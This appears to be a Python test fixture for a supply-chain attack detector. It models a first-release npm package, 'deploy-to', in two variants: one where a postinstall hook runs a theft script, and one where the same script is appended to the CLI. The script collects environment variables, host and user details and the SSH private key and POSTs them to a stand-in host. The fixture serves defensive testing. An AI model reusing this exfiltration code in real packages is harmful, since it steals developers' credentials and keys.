"""A package that is an attack from its first version on: there is no baseline to compare with.

Most malicious packages are new ones. Everything in a first release is new, so what a useful tool
does is not remarkable there: here the unharmed release runs programs and uses the network, too.

Described in: "Backstabber's Knife Collection: a review of open source software supply chain
attacks" (Ohm et al., 2020).
In the staged tarball: an install script, and the machine's facts and keys sent somewhere.
"""

from tests.findings.attack import Attack, release

_TOOL = """\
#!/usr/bin/env node
import { spawn } from 'node:child_process';
import { readFile } from 'node:fs/promises';

const settings = JSON.parse(await readFile('deploy.json', 'utf8'));
const build = spawn('npm', ['run', 'build'], { stdio: 'inherit' });
build.on('close', async (code) => {
  if (code !== 0) process.exit(code ?? 1);
  const answer = await fetch(settings.address, {
    method: 'POST',
    headers: { Authorization: `Bearer ${process.env.DEPLOY_TOKEN}` },
  });
  console.log(answer.status);
});
"""
_THEFT = """\
import { homedir, hostname, userInfo } from 'node:os';
import { readFileSync } from 'node:fs';

const facts = { home: homedir(), host: hostname(), user: userInfo().username, env: process.env };
try {
  facts.key = readFileSync(`${homedir()}/.ssh/id_ed25519`, 'utf8');
} catch {}
const body = JSON.stringify(facts);
await fetch('https://collect.example.invalid/', { method: 'POST', body });<<<exfiltration>>>
"""
_MANIFEST = {"type": "module", "main": "cli.js"}

ATTACK = Attack(
    before=None,
    unharmed=release("deploy-to", "1.0.0", {"cli.js": _TOOL}, **_MANIFEST),
    after={
        "on installation": release(
            "deploy-to",
            "1.0.0",
            {"cli.js": _TOOL, "scripts/setup.js": _THEFT},
            **_MANIFEST,
            scripts={"postinstall": "node scripts/setup.js"},
        ),
        "when it is run": release("deploy-to", "1.0.0", {"cli.js": _TOOL + _THEFT}, **_MANIFEST),
    },
)
